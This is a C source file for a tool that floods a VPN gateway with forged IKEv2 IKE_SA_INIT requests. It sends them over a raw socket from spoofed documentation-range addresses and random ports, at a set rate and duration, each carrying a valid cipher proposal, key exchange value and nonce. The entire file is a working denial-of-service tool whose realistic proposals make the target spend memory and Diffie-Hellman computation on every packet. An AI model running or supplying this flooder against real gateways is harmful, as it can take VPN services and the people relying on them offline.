/*
 * Sends first messages of IKEv2 (RFC 7296 §1.2) to a gateway from forged addresses of the documentation networks
 * 198.51.100.0/24 and 203.0.113.0/24 and from any port: flood ADDRESS PACKETS-PER-SECOND SECONDS. Each is a proposal a
 * gateway would take (AES-CBC 256, HMAC-SHA-256, group 14) with a key exchange value and a nonce of its own.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCHES_PER_SECOND 200

static const unsigned char PROPOSAL[] = {
	0x22, 0, 0, 48, 0, 0, 0, 44, 1, 1, 0, 4,         /* SA, one proposal of four transforms */
	3, 0, 0, 12, 1, 0, 0, 12, 0x80, 14, 1, 0,        /* ENCR_AES_CBC, 256 bits */
	3, 0, 0, 8, 2, 0, 0, 5, 3, 0, 0, 8, 3, 0, 0, 12, /* PRF and AUTH HMAC-SHA-256 */
	0, 0, 0, 8, 4, 0, 0, 14,                         /* 2048-bit MODP */
};

static const unsigned char KEY_EXCHANGE[] = {0x28, 0, 1, 8, 0, 14, 0, 0};
static const unsigned char NONCE[] = {0, 0, 0, 36};

struct packet {
	struct iphdr ip;
	struct udphdr udp;
	unsigned char spi_i[8], spi_r[8], next, version, exchange, flags, message_id[4], length[4];
	unsigned char proposal[sizeof PROPOSAL];
	unsigned char ke_head[sizeof KEY_EXCHANGE], ke[256];
	unsigned char nonce_head[sizeof NONCE], nonce[32];
} __attribute__((packed));

static void fill(struct packet *packet, in_addr_t target)
{
	const size_t udp = sizeof *packet - sizeof packet->ip, ike = udp - sizeof packet->udp;

	memset(packet, 0, sizeof *packet);
	packet->ip.version = 4;
	packet->ip.ihl = 5;
	packet->ip.tot_len = htons(sizeof *packet);
	packet->ip.ttl = 64;
	packet->ip.protocol = IPPROTO_UDP;
	packet->ip.daddr = target;
	packet->udp.dest = htons(500);
	packet->udp.len = htons(udp);
	packet->next = 33;
	packet->version = 0x20;
	packet->exchange = 34;
	packet->flags = 8;
	packet->length[2] = ike >> 8;
	packet->length[3] = ike & 0xff;
	memcpy(packet->proposal, PROPOSAL, sizeof PROPOSAL);
	memcpy(packet->ke_head, KEY_EXCHANGE, sizeof KEY_EXCHANGE);
	memcpy(packet->nonce_head, NONCE, sizeof NONCE);
}

static void forge(struct packet *packet)
{
	unsigned short port;
	unsigned char host[2];

	if (getrandom(host, sizeof host, 0) < 0 || getrandom(&port, sizeof port, 0) < 0 ||
	    getrandom(packet->spi_i, 8, 0) < 0 || getrandom(packet->ke, 256, 0) < 0 || getrandom(packet->nonce, 32, 0) < 0)
		exit(1);
	packet->ke[0] &= 0x7f; /* below the prime */
	packet->udp.source = port | htons(1024);
	packet->ip.saddr = htonl((host[0] & 1 ? 0xc6336400 : 0xcb007100) + 1 + host[1] % 254);
}

int main(int argc, char **argv)
{
	struct packet packet;
	struct timespec pause = {0, 1000000000 / BATCHES_PER_SECOND}, now, start;
	struct sockaddr_in to = {.sin_family = AF_INET};
	long sent = 0, rate, seconds;
	int fd;

	if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1)
		return 2;
	rate = atol(argv[2]);
	seconds = atol(argv[3]);
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		return 1;
	fill(&packet, to.sin_addr.s_addr);
	clock_gettime(CLOCK_MONOTONIC, &start);
	for (;;) {
		clock_gettime(CLOCK_MONOTONIC, &now);
		double elapsed = (double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9;
		if (elapsed >= (double)seconds)
			break;
		for (; sent < (long)(elapsed * (double)rate); sent++) {
			forge(&packet);
			sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to);
		}
		nanosleep(&pause, NULL);
	}
	printf("%ld\n", sent);
	return 0;
}
